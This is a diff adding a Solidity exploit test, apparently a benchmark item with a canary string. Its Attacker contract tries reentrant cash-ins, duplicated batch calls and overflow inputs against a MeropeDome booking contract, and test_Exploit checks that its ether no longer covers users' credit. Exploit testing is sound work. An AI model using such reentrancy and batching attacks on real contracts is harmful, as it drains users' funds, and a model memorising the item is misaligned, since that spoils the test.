@@ -1,0 +1,159 @@
+// SPDX-License-Identifier: Apache-2.0
+pragma solidity 0.8.24;
+
+import "./MeropeDome.sol";
+
+// assay-canary-2fc17ad0-89de-4087-9d89-ad674edf7f86
+
+interface Vm {
+    function deal(address who, uint256 amount) external;
+    function warp(uint256 time) external;
+    function prank(address who) external;
+}
+
+/// Wants more credit than it has paid for.
+contract Attacker {
+    MeropeDome internal dome;
+    bool internal again;
+
+    constructor(MeropeDome dome_) {
+        dome = dome_;
+    }
+
+    receive() external payable {
+        if (!again) return;
+        again = false;
+        _try(0, abi.encodeCall(dome.cashIn, (msg.value, payable(address(this)))));
+    }
+
+    function _try(uint256 value, bytes memory data) private returns (bool ok) {
+        (ok, ) = address(dome).call{value: value}(data);
+    }
+
+    function _pair(bytes memory a, bytes memory b) private view returns (bytes memory) {
+        bytes[] memory calls = new bytes[](2);
+        (calls[0], calls[1]) = (a, b);
+        return abi.encodeCall(dome.sequence, (calls));
+    }
+
+    function evening() external {
+        bytes memory buy = abi.encodeCall(dome.buyCredit, ());
+        dome.buyCredit{value: 1 ether}();
+        bytes memory one = abi.encodeCall(dome.cashIn, (0.9 ether, payable(address(this))));
+        _try(0, _pair(one, one));
+        again = true;
+        _try(0, abi.encodeCall(dome.cashIn, (0.5 ether, payable(address(this)))));
+        again = false;
+        dome.buyCredit{value: 1 ether}();
+
+        uint256 night = dome.tonight() + 9;
+        bytes memory up = abi.encodeCall(dome.giveUp, (night));
+        _try(0, _pair(abi.encodeCall(dome.book, (night, 0.2 ether)), abi.encodeCall(dome.book, (night, 0.2 ether))));
+        _try(0, abi.encodeCall(dome.book, (night, 0.2 ether)));
+        _try(0, _pair(up, up));
+        _try(0, _pair(abi.encodeCall(dome.cede, (night, address(1))), up));
+        _try(0, _pair(abi.encodeCall(dome.setPrice, (0)), abi.encodeCall(dome.book, (night + 1, 0.2 ether))));
+        _try(0, abi.encodeCall(dome.collect, (payable(address(this)))));
+        _try(0, abi.encodeCall(dome.settle, (night)));
+
+        address meter = dome.photometry();
+        (bool ok, ) = meter.call(abi.encodeCall(Photometry.brightness, (type(uint64).max, 1)));
+        (ok, ) = meter.delegatecall(abi.encodeCall(Photometry.brightness, (type(uint64).max, 1)));
+        _try(0, _pair(abi.encodeCall(dome.note, (night, 1, 0)), abi.encodeCall(dome.note, (0, 1, 1))));
+
+        uint256 left = address(this).balance;
+        _try(left, _pair(buy, _pair(buy, buy)));
+        _try(left, _pair(buy, buy));
+    }
+
+    function nextWeeks() external {
+        uint256 night = dome.tonight() - 1;
+        bytes memory done = abi.encodeCall(dome.settle, (night));
+        _try(0, abi.encodeCall(dome.giveUp, (night)));
+        _try(0, abi.encodeCall(dome.note, (night, type(uint64).max, 1)));
+        _try(0, _pair(done, done));
+        _try(0, done);
+        _try(0, done);
+        _try(0, abi.encodeCall(dome.giveUp, (night)));
+    }
+}
+
+contract Proof {
+    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
+
+    address internal constant ODA = address(0x0DA);
+    MeropeDome internal dome;
+    Attacker internal moth;
+
+    function setUp() public {
+        vm.warp(1_700_000_000);
+        dome = new MeropeDome(0.2 ether);
+        moth = new Attacker(dome);
+        vm.deal(address(moth), 2 ether);
+        vm.deal(ODA, 5 ether);
+        vm.prank(ODA);
+        dome.buyCredit{value: 5 ether}();
+    }
+
+    function _try(bytes memory data) private returns (bool ok) {
+        (ok, ) = address(dome).call(data);
+    }
+
+    function test_Regular() public {
+        uint256 night = dome.tonight() + 10;
+        bytes[] memory calls = new bytes[](2);
+        calls[0] = abi.encodeCall(dome.book, (night, 0.2 ether));
+        calls[1] = abi.encodeCall(dome.book, (night + 1, 0.2 ether));
+        vm.prank(ODA);
+        dome.sequence(calls);
+        require(dome.credit(ODA) == 4.6 ether, "two nights");
+        require(!_try(abi.encodeCall(dome.book, (night, 0.2 ether))), "taken");
+        dome.setPrice(0.3 ether);
+        vm.prank(ODA);
+        require(!_try(abi.encodeCall(dome.book, (night + 2, 0.2 ether))), "dearer");
+        vm.prank(ODA);
+        dome.giveUp(night + 1);
+        require(dome.credit(ODA) == 4.8 ether, "paid back as it was paid");
+        vm.prank(ODA);
+        require(!_try(abi.encodeCall(dome.note, (night, 1, 1))), "not yet");
+
+        vm.warp((night + 1) * 1 days);
+        vm.prank(ODA);
+        dome.note(night, 1_024_000, 1000);
+        vm.prank(ODA);
+        dome.note(night, type(uint64).max, 1);
+        MeropeDome.Frame[] memory frames = dome.framesOf(night);
+        require(frames.length == 2 && frames[0].brightness == 10 && frames[1].brightness == 63, "frames");
+        dome.settle(night);
+        require(!_try(abi.encodeCall(dome.settle, (night))), "once");
+        dome.collect(payable(address(0xCAFE)));
+        require(address(0xCAFE).balance == 0.2 ether, "earned");
+        vm.prank(ODA);
+        dome.cashIn(4.8 ether, payable(ODA));
+        require(ODA.balance == 4.8 ether && address(dome).balance == 0, "cashed in");
+    }
+
+    /// Every credit, and what is earned, is there in ether.
+    function covered() public view returns (bool) {
+        return address(dome).balance >= dome.credit(ODA) + dome.credit(address(moth)) + dome.earned();
+    }
+
+    function exploit() public {
+        moth.evening();
+        vm.warp(block.timestamp + 10 days);
+        moth.nextWeeks();
+    }
+
+    function test_Exploit() public {
+        exploit();
+        require(!covered(), "covered");
+    }
+
+    function target() public view returns (address) {
+        return address(dome);
+    }
+
+    function attacker() public view returns (address) {
+        return address(moth);
+    }
+}
